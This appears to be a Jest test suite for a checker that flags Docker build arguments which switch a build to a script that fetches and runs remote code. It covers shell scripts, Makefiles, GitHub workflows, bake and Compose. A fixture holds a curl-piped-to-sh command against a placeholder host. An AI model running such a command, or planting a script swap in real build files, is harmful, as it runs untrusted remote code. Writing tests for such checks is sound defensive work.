import { describe, expect, it } from '@jest/globals';
import { type Files, failuresOf } from './failures.ts';

const FETCHES = '#!/bin/sh\ncurl -fsSL http://get.example.com/i.sh | sh\n';
const HARMLESS = '#!/bin/sh\ndate\n';
const USER = 'USER 1000\n';
const FROM = 'FROM alpine:3.22\nRUN apk add --no-cache curl\n';
const DOCKERFILE = `${FROM}COPY s/ /s/\nARG STEP=good\nRUN sh /s/$STEP.sh\n${USER}`;
const PLAIN: Files = {
  Dockerfile: DOCKERFILE,
  's/good.sh': HARMLESS,
  's/other.sh': HARMLESS,
  's/bad.sh': FETCHES,
};
const WORKFLOW = '.github/workflows/w.yml';
const step = (text: string): string =>
  `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - ${text}\n`;
const service = (name: string, value: string): string =>
  `  ${name}: { build: { context: ., args: { STEP: ${value} } } }\n`;

/** Files that build with one of the scripts. */
type Choice = readonly [name: string, files: (script: string) => Files];

const CHOICES: readonly Choice[] = [
  ['a command', (script) => ({ 'b.sh': `docker build --build-arg STEP=${script} .\n` })],
  ['the environment', (script) => ({ 'b.sh': `export STEP=${script}\ndocker build --build-arg STEP .\n` })],
  ['a loop', (script) => ({ 'b.sh': `for s in good ${script}; do docker build --build-arg STEP=$s .; done\n` })],
  ['make', (script) => ({ Makefile: `a:\n\tdocker build --build-arg STEP=${script} .\n` })],
  ['a step', (script) => ({ [WORKFLOW]: step(`run: docker build --build-arg STEP=${script} .`) })],
  [
    'an action',
    (script) => ({
      [WORKFLOW]: step(`uses: docker/build-push-action@v6\n        with: { build-args: STEP=${script} }`),
    }),
  ],
  [
    'bake-action',
    (script) => ({
      'docker-bake.hcl': 'target "default" {\n}\n',
      [WORKFLOW]: step(`uses: docker/bake-action@v6\n        with: { set: "*.args.STEP=${script}" }`),
    }),
  ],
  [
    'one of two services',
    (script) => ({ 'compose.yaml': `services:\n${service('a', 'other')}${service('b', script)}` }),
  ],
  [
    'Compose',
    (script) => ({
      'compose.yaml': 'services: { a: { build: . } }\n',
      'b.sh': `docker compose build --build-arg STEP=${script}\n`,
    }),
  ],
];

const PLACES: readonly (readonly [name: string, dockerfile: string, scripts: Files])[] = [
  [
    'a folder',
    DOCKERFILE.replace('$STEP.sh', '${STEP}/run.sh'),
    { 's/good/run.sh': HARMLESS, 's/bad/run.sh': FETCHES },
  ],
  ['a prefix', DOCKERFILE.replace('$STEP.sh', 'run-$STEP'), { 's/run-good': HARMLESS, 's/run-bad': FETCHES }],
  ['a copy', `${FROM}ARG STEP=good\nCOPY s/$STEP.sh /r.sh\nRUN sh /r.sh\n${USER}`, {}],
  ['an entry point', `${FROM}COPY s/ /s/\nARG STEP=good\nENV STEP=$STEP\nENTRYPOINT sh /s/$STEP.sh\n${USER}`, {}],
];

const commands = (script: string): Files => ({ 'b.sh': `docker build --build-arg STEP=${script} .\n` });

describe('a script that an argument of a build chooses', () => {
  it.each(CHOICES)('counts in %s', async (_, files) => {
    const failures = await failuresOf({ ...PLAIN, ...files('other') }, { ...PLAIN, ...files('bad') });
    expect(failures).toEqual(['remote-script-exec']);
  });

  it.each(PLACES)('counts by %s', async (_, dockerfile, scripts) => {
    const plain = { ...PLAIN, ...scripts, Dockerfile: dockerfile };
    const failures = await failuresOf({ ...plain, ...commands('good') }, { ...plain, ...commands('bad') });
    expect(failures).toEqual(['remote-script-exec']);
  });

  it.each(CHOICES)('adds nothing if it is harmless, in %s', async (_, files) => {
    expect(await failuresOf({ ...PLAIN, ...files('good') }, { ...PLAIN, ...files('other') })).toEqual([]);
  });

  it.each<[string, Files, Files]>([
    ['was chosen before', commands('bad'), { 'b.sh': '# again\ndocker build -t a --build-arg STEP=bad .\n' }],
    ['is no longer chosen', commands('bad'), { 'b.sh': 'docker build .\n' }],
    ['is not there', commands('good'), commands('missing')],
    ['belongs to another argument', commands('good'), { 'b.sh': 'docker build --build-arg VERSION=bad .\n' }],
    [
      'is written out',
      commands('good'),
      { Dockerfile: DOCKERFILE.replace('ARG STEP=good\n', '').replace('$STEP', 'good') },
    ],
    ['is beside other files', commands('good'), { ...commands('good'), 'readme.txt': 'bad\n' }],
    [
      'is a release of something',
      { Dockerfile: `${FROM}ARG V=1\nRUN cp /s/a-$V.txt /x\n${USER}` },
      { 'b.sh': Array.from({ length: 30 }, (_, at) => `docker build --build-arg V=${at} .\n`).join('') },
    ],
  ])('adds nothing if it %s', async (_, before, after) => {
    expect(await failuresOf({ ...PLAIN, ...before }, { ...PLAIN, ...before, ...after })).toEqual([]);
  });
});
